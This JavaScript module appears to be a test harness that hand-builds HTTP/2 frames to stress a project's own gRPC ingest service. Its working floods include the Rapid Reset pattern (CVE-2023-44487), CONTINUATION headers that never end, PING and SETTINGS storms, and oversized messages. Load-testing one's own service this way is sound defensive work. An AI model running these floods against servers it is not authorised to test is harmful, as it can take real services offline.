// Attacks on the gRPC port, in frames of HTTP/2 (RFC 9113) written by hand: no library would send them.
import assert from "node:assert/strict";
import { connect } from "node:http2";
import { closeAll, openMany, pour } from "./connections.mjs";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const Type = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, WINDOW_UPDATE: 8, CONTINUATION: 9 };
const END_HEADERS = 4;
const SECONDS = 4;
const CONNECTIONS = 8;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header, neither indexed nor packed (RFC 7541 6.2.2). */
function literal(name, value) {
  assert.ok(name.length < 127 && value.length < 127);
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

const CALL = Buffer.concat([
  literal(":method", "POST"),
  literal(":scheme", "http"),
  literal(":path", "/paceline.v1.IngestService/Stream"),
  literal(":authority", "localhost"),
  literal("content-type", "application/grpc"),
  literal("te", "trailers"),
]);

/** Pours what `makePiece` gives into connections that are opened anew when the collector ends them. */
async function flood(grpc, makePiece) {
  const end = Date.now() + SECONDS * 1000;
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async () => {
      while (Date.now() < end) {
        const [socket] = await openMany(grpc, 1);
        socket.write(Buffer.concat([Buffer.from(PREFACE), frame(Type.SETTINGS, 0, 0)]));
        const piece = makePiece();
        while (Date.now() < end && !socket.destroyed) await pour(socket, piece(), 100);
        closeAll([socket]);
      }
    }),
  );
}

function pings() {
  const many = Buffer.concat(Array(500).fill(frame(Type.PING, 0, 0, Buffer.alloc(8))));
  return () => many;
}

function settings() {
  const many = Buffer.concat(
    Array(500).fill(frame(Type.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  );
  return () => many;
}

// CVE-2023-44487: calls that are taken back at once do not count as open.
function resets() {
  let stream = 1;
  return () => {
    const frames = [];
    for (let i = 0; i < 100; i++, stream += 2) {
      frames.push(frame(Type.HEADERS, END_HEADERS, stream, CALL));
      frames.push(frame(Type.RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])));
    }
    return Buffer.concat(frames);
  };
}

// Headers that go on and on in CONTINUATION frames.
function continuations() {
  let begun = false;
  const more = frame(
    Type.CONTINUATION,
    0,
    1,
    Buffer.concat(Array(100).fill(literal("x-more", "y".repeat(100)))),
  );
  return () => {
    if (begun) return more;
    begun = true;
    return frame(Type.HEADERS, 0, 1, CALL);
  };
}

// Calls that are opened and never say anything.
function openCalls() {
  let stream = 1;
  return () => {
    const frames = [];
    for (let i = 0; i < 100; i++, stream += 2) {
      frames.push(frame(Type.HEADERS, END_HEADERS, stream, CALL));
    }
    return Buffer.concat(frames);
  };
}

/** As many calls as a connection may have, taken back by closing it. */
async function closeFullConnections({ grpc }) {
  const end = Date.now() + SECONDS * 1000;
  const full = Buffer.concat([Buffer.from(PREFACE), frame(Type.SETTINGS, 0, 0), openCalls()()]);
  await Promise.all(
    Array.from({ length: 4 * CONNECTIONS }, async () => {
      while (Date.now() < end) {
        const [socket] = await openMany(grpc, 1);
        await new Promise((resolve) => socket.write(full, resolve));
        closeAll([socket]);
      }
    }),
  );
}

/** Messages of the largest size, one call each, that are no messages. */
async function hugeMessages({ grpc }) {
  const session = connect(`http://${grpc}`);
  session.on("error", () => {});
  const body = Buffer.alloc(5 + (12 << 20), 0xff);
  body[0] = 0;
  body.writeUInt32BE(12 << 20, 1);
  for (let i = 0; i < 8; i++) {
    const statuses = await Promise.all(
      Array.from({ length: 4 }, () => call(session, "/paceline.v1.IngestService/Send", body)),
    );
    // 3: INVALID_ARGUMENT. 8: RESOURCE_EXHAUSTED, because there is no room for it now.
    for (const status of statuses) assert.ok(["3", "8", undefined].includes(status), status);
    assert.ok(statuses.includes("3"));
  }
  session.close();
}

function call(session, path, body) {
  return new Promise((resolve) => {
    const stream = session.request({
      ":method": "POST",
      ":path": path,
      "content-type": "application/grpc",
      te: "trailers",
    });
    let status;
    const read = (headers) => (status = headers["grpc-status"] ?? status);
    stream.on("response", read);
    stream.on("trailers", read);
    stream.on("error", () => {});
    stream.on("close", () => resolve(status));
    stream.resume();
    stream.end(body);
  });
}

export const HTTP2_ATTACKS = {
  "HTTP/2: pings": { run: ({ grpc }) => flood(grpc, pings) },
  "HTTP/2: settings": { run: ({ grpc }) => flood(grpc, settings) },
  "HTTP/2: calls opened and reset": { run: ({ grpc }) => flood(grpc, resets) },
  "HTTP/2: connections full of calls, closed": { run: closeFullConnections },
  "HTTP/2: headers without end": { run: ({ grpc }) => flood(grpc, continuations) },
  "HTTP/2: calls that say nothing": { run: ({ grpc }) => flood(grpc, openCalls) },
  "gRPC: messages of 12 MiB that are none": { run: hugeMessages },
};
